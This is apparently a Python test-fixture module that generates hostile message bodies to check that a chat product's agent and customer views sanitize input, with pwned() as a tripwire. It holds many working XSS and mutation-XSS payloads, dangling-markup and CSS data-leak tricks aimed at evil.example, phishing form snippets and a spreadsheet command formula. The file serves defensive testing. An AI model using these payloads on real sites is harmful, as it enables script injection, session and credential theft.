"""Bodies that mean no good: what customers could send to do something in an agent's browser, or in another customer's.

Put together from what is publicly known: every event handler on several elements, dangerous addresses in several spellings,
mutation XSS, SVG and MathML, frames, forms, styles, templates of frameworks, markdown, Unicode. `pwned()` is the tripwire.
"""

from itertools import product

_CALL = "pwned()"

_EVENTS = ["abort", "afterprint", "animationcancel", "animationend", "animationiteration", "animationstart", "auxclick", "beforecopy", "beforecut", "beforeinput", "beforematch", "beforepaste", "beforeprint", "beforetoggle", "beforeunload", "begin", "blur", "cancel", "canplay", "canplaythrough", "change", "click", "close", "command", "contentvisibilityautostatechange", "contextmenu", "copy", "cuechange", "cut", "dblclick", "drag", "dragend", "dragenter", "dragexit", "dragleave", "dragover", "dragstart", "drop", "durationchange", "emptied", "end", "ended", "error", "focus", "focusin", "focusout", "formdata", "fullscreenchange", "gotpointercapture", "hashchange", "input", "invalid", "keydown", "keypress", "keyup", "load", "loadeddata", "loadedmetadata", "loadstart", "lostpointercapture", "message", "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover", "mouseup", "mousewheel", "pagehide", "pageshow", "paste", "pause", "play", "playing", "pointercancel", "pointerdown", "pointerenter", "pointerleave", "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "popstate", "progress", "ratechange", "repeat", "reset", "resize", "scroll", "scrollend", "scrollsnapchange", "search", "securitypolicyviolation", "seeked", "seeking", "select", "selectionchange", "selectstart", "show", "stalled", "storage", "submit", "suspend", "timeupdate", "toggle", "touchcancel", "touchend", "touchmove", "touchstart", "transitioncancel", "transitionend", "transitionrun", "transitionstart", "unhandledrejection", "unload", "volumechange", "waiting", "webkitanimationend", "webkittransitionend", "wheel"]
_CARRIERS = [
    "<img src=x on{e}={c}>",
    '<svg on{e}="{c}"><animate attributeName=x dur=1s repeatCount=2></svg>',
    "<details open on{e}={c}><summary>x</summary></details>",
]
_HANDLERS = [carrier.format(e=event, c=_CALL) for n, event in enumerate(_EVENTS) for carrier in (_CARRIERS[n % 3],)]
_FOCUSED = [
    f"<{tag} autofocus tabindex=1 onfocus={_CALL}>x</{tag}>"
    for tag in ["a", "b", "div", "input", "select", "textarea", "button", "video", "custom-x", "iframe"]
]

_SCHEMES = [
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\tscript:pwned()", "java\nscript:pwned()", " javascript:pwned()", "\x01javascript:pwned()",
    "javascript&colon;pwned()", "&#106;avascript:pwned()", "&#x6A;avascript:pwned()", "javascript://%0apwned()", "javascript:/*--></title>*/pwned()",
    "vbscript:pwned()", "data:text/html,<script>parent.pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'/>", "//evil.example/x", "https://evil.example/x", "\\\\evil.example\\x",
    "jar:https://evil.example!/x", "feed:javascript:pwned()", "view-source:javascript:pwned()",
]  # fmt: skip
_SINKS = [
    '<a href="{u}">click</a>', '<iframe src="{u}"></iframe>', '<object data="{u}"></object>', '<embed src="{u}">', '<form action="{u}"><button>x</button></form>',
    '<svg><a xlink:href="{u}"><text y=20>x</text></a></svg>', '<img src="{u}">', '<meta http-equiv=refresh content="0;url={u}">', '<base href="{u}">',
    '<link rel=stylesheet href="{u}">', '<script src="{u}"></script>', '<button formaction="{u}" form=x>x</button>', '<math href="{u}">x</math>',
]  # fmt: skip
_ADDRESSES = [sink.format(u=scheme) for n, (scheme, sink) in enumerate(product(_SCHEMES, _SINKS)) if n % 2 == 0]

_PLAIN = [
    "<script>pwned()</script>", "<SCRIPT>pwned()</SCRIPT>", "<scr<script>ipt>pwned()</scr</script>ipt>", "<script\x0c>pwned()</script>", "<script/x>pwned()</script >",
    "</script><script>pwned()</script>", "--><script>pwned()</script>", "]]><script>pwned()</script>", "'\"><script>pwned()</script>", "`;pwned();`",
    "</textarea><script>pwned()</script>", "</title><script>pwned()</script>", "</style><script>pwned()</script>", "</template><script>pwned()</script>",
    "<script type=module>pwned()</script>", "<script type=importmap>{}</script>", "<script src=data:,pwned()></script>", "<svg><script>pwned()</script></svg>",
    "<svg><script>pwned&lpar;)</script>", "<svg/onload=pwned()>", "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><set onbegin=pwned()>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwned()</script></svg>#x\"></svg>", "<svg><foreignObject><script>pwned()</script>",
    "<svg><image href=x onerror=pwned()>", "<svg><style><img src=x onerror=pwned()></style>", "<math><mtext><script>pwned()</script>", "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=pwned() src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">", "<xmp><p title=\"</xmp><img src=x onerror=pwned()>\">", "<noembed><img src=\"</noembed><iframe onload=pwned()>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned()>\">", "<listing>&lt;img src=1 onerror=pwned()&gt;</listing>", "<!--><img src=x onerror=pwned()>-->", "<!--!><img src=x onerror=pwned()>",
    "<![CDATA[><img src=x onerror=pwned()>]]>", "<?xml version=1.0?><img src=x onerror=pwned()>", "<comment><img src=\"</comment><img src=x onerror=pwned()>\">", "<plaintext><img src=x onerror=pwned()>",
    "<select><style></select><img src=x onerror=pwned()></style>", "<table><td background=javascript:pwned()>", "<table><form><input name=x></form></table>", "<a/href=javascript:pwned()>x",
    "<img src=x:x onerror\x0b=pwned()>", "<img/src=x/onerror=pwned()>", "<img src=`x` onerror=pwned()>", "<img \x00src=x onerror=pwned()>", "<<img src=x onerror=pwned()//", "<img src=x onerror=pwned()//",
    "<iframe srcdoc=\"<script>parent.pwned()</script>\">", "<iframe src=javascript:parent.pwned()>", "<frameset onload=pwned()>", "<body onload=pwned()>", "<body onpageshow=pwned()>", "<html onmousemove=pwned()>",
    "<object data=javascript:pwned()>", "<object type=text/html data=https://evil.example/>", "<applet code=x>", "<portal src=https://evil.example/>", "<fencedframe src=https://evil.example/>", "<dialog open onclose=pwned()><form method=dialog><button>x",
    "<input type=image src=x onerror=pwned()>", "<isindex type=image src=1 onerror=pwned()>", "<video><source onerror=pwned()>", "<audio src=x onerror=pwned()>", "<marquee onstart=pwned()>x", "<video poster=javascript:pwned()>",
    "<button popovertarget=x>y</button><p popover id=x onbeforetoggle=pwned()>", "<template shadowrootmode=open><script>pwned()</script></template>", "<link rel=import href=data:text/html,<script>pwned()</script>>", "<link rel=prefetch href=https://evil.example/>",
    "<style>@import url(https://evil.example/x.css);</style>", "<style>*{background:url(https://evil.example/x)}</style>", "<p style=\"background:url(https://evil.example/x)\">x", "<p style=\"position:fixed;inset:0;z-index:9999\">x", "<div style=width:expression(pwned())>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=pwned()>", "<style>input[value^=a]{background:url(https://evil.example/a)}</style>", "<p class=\"hd-btn banner\" id=main>x</p>", "<img name=getElementById>", "<form id=document><input name=body></form>",
    "<a id=words>{}</a><a id=main name=dataset>", "<form name=trustedTypes><output id=createPolicy></output></form>", "<div hx-get=https://evil.example/ hx-trigger=load>x</div>", "<div hx-on:load=pwned() data-hx-trigger=load>x</div>", "<div hx-vals='js:{x:pwned()}' hx-post=/console/presence/change hx-trigger=load>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>", "<helio-chat fill></helio-chat>", "{{7*7}}", "{{constructor.constructor('pwned()')()}}", "{% debug %}", "{{ request.user.password }}", "${pwned()}", "#{7*7}", "<%= 7*7 %>", "{{{pwned()}}}", "[[${7*7}]]", "%(name)s %s %d {0} {name}",
    "[x](javascript:pwned())", "![x](https://evil.example/pixel.png)", "![x](x\"onerror=\"pwned())", "[x]: javascript:pwned()", "<javascript:pwned()>", "[a](data:text/html,<script>pwned()</script>)", "**<img src=x onerror=pwned()>**", "```html\n<img src=x onerror=pwned()>\n```",
    "https://evil.example/\"onmouseover=\"pwned()", "https://northstar.example@evil.example/", "https://evil.example/<img src=x onerror=pwned()>", "https://xn--80ak6aa92e.com/", "https://evil.example/%22%3E%3Cscript%3Epwned()%3C/script%3E", "mailto:a@b.example?body=<script>pwned()</script>", "www.evil.example/'onclick='pwned()",
    "<dangling src='https://evil.example/?", "<img src=\"https://evil.example/?", "<textarea>", "<title>", "<plaintext>", "<!--", "<form action=https://evil.example/><input type=submit value=\"Sign in again\">", "<a href=https://evil.example/ target=_blank>Sign in</a>", "<b", "<", ">", "&", "&#60;script&#62;pwned()&#60;/script&#62;", "&lt;img src=x onerror=pwned()&gt;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "%3Cscript%3Epwned()%3C/script%3E", "+ADw-script+AD4-pwned()+ADw-/script+AD4-", "＜script＞pwned()＜/script＞", "﹤img src=x onerror=pwned()﹥", "\u2028pwned()\u2029", "';pwned();//", "\";pwned();//", "</script><!--<script>", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwned()//>\\x3e",
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "@SUM(1+1)", "data: pwned\n\nevent: reload\ndata: {}\n\n", "x\r\nSet-Cookie: a=b", "{\"kind\":\"message.posted\"}", "\"}]}</script><script>pwned()</script>",
]  # fmt: skip

_UNICODE = [
    "\u202eelpmaxe.live//:sptth", "\u202e\u202d\u202e" * 30 + "x", "\u2066\u2067\u2068" * 50 + "never closed", "\u061c\u200f\u200e x", "شكرا <b>x</b> \u202b abc", "a" * 4000, "شكرا" * 900, "\u0301" * 500 + "x", "Z" + "\u0336\u0489" * 400,
    "\ufdfd" * 200, "𒐫" * 200, "👩‍👩‍👧‍👦" * 300, "\u200b" * 3000 + "x", "\ufeffx", "x" + "\u00a0" * 2000 + "y", "\U000e0041" * 50 + "x", "https://" + "a" * 3000 + ".example/", "W" * 60 + "\u2028" + "W" * 60, "\n".join("x" * 2000), "\t" * 400 + "x",
    "ﷺ" * 100, "\u0e47" * 600 + "ก", "꧁" * 300, "\u115f\u1160\u3164\uffa0x", "İıſK" * 200, "\u2800" * 500 + "x", "\u3000" * 800 + "x", "🏴" + "\U000e0067\U000e0062" * 99 + "x", "\u1d173x\u1d17a",
]  # fmt: skip

BODIES = [*_HANDLERS, *_FOCUSED, *_ADDRESSES, *_PLAIN, *_UNICODE]
# For short places: names, titles of pages.
NAMES = [
    body[:120]
    for body in (
        _PLAIN[0],
        _PLAIN[19],
        _HANDLERS[3],
        "\u202eevil",
        "\u2067\u2067 x",
        _ADDRESSES[4],
        "{{7*7}}",
        "</title><script>pwned()</script>",
    )
]
